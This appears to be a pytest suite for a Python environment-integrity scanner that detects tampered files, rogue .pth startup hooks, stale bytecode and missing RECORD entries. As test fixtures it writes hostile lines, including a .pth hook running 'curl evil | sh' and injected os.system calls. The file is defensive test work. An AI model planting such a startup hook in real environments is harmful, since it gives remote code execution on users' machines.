"""Environment integrity: RECORD hashes, startup hooks, bytecode caches, missing RECORDs."""

from __future__ import annotations

import io
import os
import sys
import time
from pathlib import Path

from builders.env_files import add_distribution, compile_pyc, site_tree
from conftest import assert_fires, assert_silent
from trojanguard.cli import Console, main
from trojanguard.integrity.environment import interpreter_paths, site_dirs, verify_environment


def _verify(site: Path):  # type: ignore[no-untyped-def]
    return verify_environment([str(site)], jobs=4).report


def test_clean_tree_is_silent(tmp_path: Path) -> None:
    site = site_tree(tmp_path)
    compile_pyc(site / "pkg0" / "__init__.py")
    report = _verify(site)
    assert_silent(report, "ENV001")
    assert_silent(report, "ENV002")
    assert_silent(report, "ENV003")
    assert_silent(report, "ENV004")
    assert_silent(report, "ENV005")
    assert_silent(report, "ENV006")
    assert len(report.scanned) == 3 and not report.errors


def test_modified_file_fires(tmp_path: Path) -> None:
    site = site_tree(tmp_path)
    (site / "pkg1" / "__init__.py").write_text("import os; os.system('id')\n")
    assert_fires(_verify(site), "ENV001", contains="pkg1/__init__.py")


def test_unrecorded_pth_with_import_is_a_startup_hook(tmp_path: Path) -> None:
    site = site_tree(tmp_path)
    (site / "zz_evil.pth").write_text("/some/path\nimport os; os.system('curl evil | sh')\n")
    (site / "sitecustomize.py").write_text("print('hi')\n")
    report = _verify(site)
    found = assert_fires(report, "ENV002", contains="zz_evil.pth")
    assert any("sitecustomize.py" in f.message for f in found)


def test_recorded_pth_and_plain_path_pth_are_not_hooks(tmp_path: Path) -> None:
    site = site_tree(tmp_path)
    add_distribution(site, "setuptools", {"distutils-precedence.pth": b"import os; var = 'SETUPTOOLS'\n"})
    (site / "extra-paths.pth").write_text("/opt/lib\n")
    report = _verify(site)
    assert_silent(report, "ENV002")
    assert_fires(report, "ENV003", contains="extra-paths.pth")


def test_unrecorded_module_fires(tmp_path: Path) -> None:
    site = site_tree(tmp_path)
    (site / "pkg0" / "backdoor.py").write_text("x = 1\n")
    assert_fires(_verify(site), "ENV003", contains="backdoor.py")


def test_stale_and_orphan_bytecode(tmp_path: Path) -> None:
    site = site_tree(tmp_path)
    src = site / "pkg0" / "__init__.py"
    pyc = compile_pyc(src)
    data = bytearray(pyc.read_bytes())
    data[12:16] = (999).to_bytes(4, "little")  # the size the pyc claims its source has
    pyc.write_bytes(bytes(data))
    orphan = pyc.parent / "gone.cpython-311.pyc"
    orphan.write_bytes(bytes(data))
    report = _verify(site)
    assert_fires(report, "ENV004", contains="does not match __init__.py")
    assert_fires(report, "ENV004", contains="has no source gone.py")


def test_distribution_without_record_and_missing_file(tmp_path: Path) -> None:
    site = site_tree(tmp_path)
    add_distribution(site, "norecord", {"norecord.py": b"x = 1\n"}, record=False)
    (site / "pkg2" / "data.txt").unlink()
    report = _verify(site)
    assert_fires(report, "ENV005", contains="norecord")
    assert_fires(report, "ENV006", contains="pkg2/data.txt")


def test_three_hundred_distributions_are_checked_quickly(tmp_path: Path) -> None:
    site = site_tree(tmp_path, packages=300)
    start = time.monotonic()
    result = verify_environment([str(site)], jobs=8)
    assert result.distributions == 300 and result.files_checked == 600
    assert time.monotonic() - start < 15
    assert_silent(result.report, "ENV001")


def test_target_interpreter_paths_run_without_site() -> None:
    paths = interpreter_paths(sys.executable)
    assert site_dirs(paths), paths
    assert any(os.path.realpath(p) == os.path.realpath(q) for p in site_dirs(paths) for q in site_dirs(sys.path))


def test_cli_env_verify_exit_codes(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    import trojanguard.integrity.environment as env

    site = site_tree(tmp_path)
    real = env.verify_environment
    monkeypatch.setattr(env, "verify_environment", lambda **kw: real([str(site)], jobs=2))
    out, err = io.StringIO(), io.StringIO()
    assert main(["env", "verify"], Console(out=out, err=err)) == 0
    (site / "pkg0" / "__init__.py").write_text("tampered\n")
    assert main(["env", "verify", "-f", "json"], Console(out=out, err=err)) == 1
    assert "ENV001" in out.getvalue()



def test_the_guard_hook_is_accepted_only_verbatim(tmp_path: Path) -> None:
    from trojanguard import guard

    site = site_tree(tmp_path)
    guard.enable(str(site))
    assert_silent(_verify(site), "ENV002")
    (site / guard.PTH_NAME).write_text(guard.PTH_LINE + "import os; os.system('id')\n")
    assert_fires(_verify(site), "ENV002", contains=guard.PTH_NAME)
